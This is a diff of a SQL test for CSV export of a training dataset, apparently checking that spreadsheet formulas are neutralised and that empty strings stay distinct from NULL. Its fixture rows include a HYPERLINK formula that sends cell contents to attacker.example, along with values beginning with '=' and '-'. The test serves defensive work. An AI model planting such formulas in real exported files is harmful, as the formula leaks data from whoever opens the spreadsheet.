@@ -110,7 +110,10 @@ VALUES ('=HYPERLINK("https://attacker.example/?d="&A1,"ver")', 'greeting', '=1+1
        -- both this message and -5, and no reader could tell them apart
        ('''-5', 'greeting', '''=1', 90, 'formula', now() - interval '15 seconds'),
        ('-5', 'greeting', '=1', 90, 'formula', now() - interval '14 seconds'),
-       ('''quoted'' words', 'greeting', 'ok', 90, 'formula', now() - interval '13 seconds');
+       ('''quoted'' words', 'greeting', 'ok', 90, 'formula', now() - interval '13 seconds'),
+       -- an empty text is "", told apart from NULL (0.3.1 wrote both as
+       -- nothing: the message came back NULL, the response as none)
+       ('', 'greeting', '', 90, 'formula', now() - interval '12 seconds');
 SELECT regexp_replace(substr(l, 38), ',[^,]*$', '') AS neutralised_line
 FROM export_training_dataset('csv') l WHERE l LIKE '%formula%' OR l LIKE '%@cat%';
 -- Read back the documented way (a CSV reader, then one leading quote removed
